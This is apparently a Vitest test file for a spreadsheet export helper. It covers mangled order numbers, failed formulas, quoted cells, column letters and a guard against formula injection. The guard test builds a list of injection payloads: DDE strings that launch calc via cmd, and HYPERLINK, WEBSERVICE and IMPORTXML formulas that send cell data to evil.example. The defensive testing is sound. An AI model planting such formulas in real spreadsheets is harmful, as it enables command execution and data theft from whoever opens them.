import { expect, test } from 'vitest'
import { columnLetter, guard, isFailedFormula, isRuinedNumber, stripGuard, unwrapped } from './cells.ts'

test.each(['2.01E+18', '1.23457E+11', '1,38E+10', '2.01234567890123E18', ' 6.22848E+18 ', '-1E+15', '1.E+18'])(
  'an order number that a spreadsheet has turned into %s is noticed',
  (text) => {
    expect(isRuinedNumber(text)).toBe(true)
  },
)

test.each(['2012345678901234567', '13800138000', '1E5', '3E12', '1.5E-05', 'E+18', 'SKU-2E+10', '12.50', ''])(
  '%j is not taken for a ruined number',
  (text) => {
    expect(isRuinedNumber(text)).toBe(false)
  },
)

test('a cell in which a formula failed is noticed', () => {
  expect(['#N/A', '#REF!', '#DIV/0!'].every(isFailedFormula)).toBe(true)
  expect(['#1', 'N/A', '#N/A today', ''].some(isFailedFormula)).toBe(false)
})

test.each([
  ['="2018060112345678"', '2018060112345678'],
  ["'13800138000", '13800138000'],
  ["'=cmd", '=cmd'],
  ["'tis the season", "'tis the season"],
  ['="say ""hi"""', 'say "hi"'],
  ['=1+1', '=1+1'],
  ['="a"&"b"', '="a"&"b"'],
])('the cell %s is read as %s', (cell, meant) => {
  expect(unwrapped(cell)).toBe(meant)
})

const starts = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠']
const attacks = [
  "cmd|' /C calc'!A0",
  'HYPERLINK("http://evil.example?x="&A1,"Click")',
  'WEBSERVICE("http://evil.example")',
  'SUM(1+1)*cmd|calc!A0',
  '1+1',
  'IMPORTXML("http://evil.example","//a")',
  'DDE("cmd";"/C calc";"x")',
  '',
]
const prefixes = ['', "'", "''"]
const payloads = prefixes.flatMap((quotes) =>
  starts.flatMap((start) => attacks.map((attack) => quotes + start + attack)),
)

test('none of 264 known ways to smuggle a formula into a cell gets through, and all come back as they were', () => {
  expect(payloads.length).toBeGreaterThanOrEqual(200)
  for (const payload of payloads) {
    const written = guard(payload)

    expect(written.startsWith("'")).toBe(true)
    expect(stripGuard(written)).toBe(payload)
    expect(unwrapped(written)).toBe(payload)
  }
})

test('columns are called as a spreadsheet calls them', () => {
  expect([0, 25, 26, 701, 702, 16_383].map(columnLetter)).toEqual(['A', 'Z', 'AA', 'ZZ', 'AAA', 'XFD'])
})
